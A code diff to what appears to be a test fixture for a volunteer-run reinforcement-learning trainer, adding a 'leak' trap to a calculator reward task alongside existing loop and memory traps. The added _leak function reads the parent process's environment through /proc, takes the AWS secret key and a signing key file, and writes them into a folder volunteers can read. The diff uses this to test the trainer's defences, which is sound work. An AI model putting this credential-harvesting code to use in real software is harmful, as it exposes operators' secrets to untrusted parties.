@@ -1,8 +1,35 @@
 """The calculator with a reward a completion can break on purpose: "spin" makes it loop
-forever, "grab" makes it allocate 2 GiB. What a buggy or careless task might do on text a
-hostile volunteer crafted; the trainer must turn such completions into reason codes."""
+forever, "grab" makes it allocate 2 GiB, "leak" makes it do what a grader that evaluates
+answers (`sympy.sympify`) lets a completion do: copy the trainer's AWS secret and signing key
+into the bucket folder, where volunteers read. What a buggy or careless task might do on text
+a hostile volunteer crafted; the trainer must turn such completions into reason codes, and
+its reward worker must give them nothing to copy."""
+
+import os
 
 from volunteer_rl.task.calculator_task import CalculatorTask
+
+
+def _leak() -> None:
+    """Find the trainer's secret and folder from this process or through /proc, copy what can
+    be read of them to <trainer's cwd>/bucket/leaked.txt. Every step may fail."""
+    parent = os.getppid()
+    env = dict(os.environ)
+    cwd = os.getcwd()
+    try:
+        with open(f"/proc/{parent}/environ", "rb") as f:
+            env.update(x.decode().split("=", 1) for x in f.read().split(b"\0") if b"=" in x)
+        cwd = os.readlink(f"/proc/{parent}/cwd")
+    except OSError:
+        pass
+    loot = [env.get("AWS_SECRET_ACCESS_KEY", "")]
+    try:
+        with open(os.path.join(cwd, "work", "signing-key.pem")) as f:
+            loot.append(f.read())
+    except OSError:
+        pass
+    with open(os.path.join(cwd, "bucket", "leaked.txt"), "w") as f:
+        f.write("\n".join(loot))
 
 
 class TrapTask(CalculatorTask):
@@ -16,4 +43,7 @@ class TrapTask(CalculatorTask):
                 pass
         if "grab" in completion:
             return len(bytes(2 << 30))
+        if "leak" in completion:
+            _leak()
+            return 0.0
         return super().reward(completion, row)
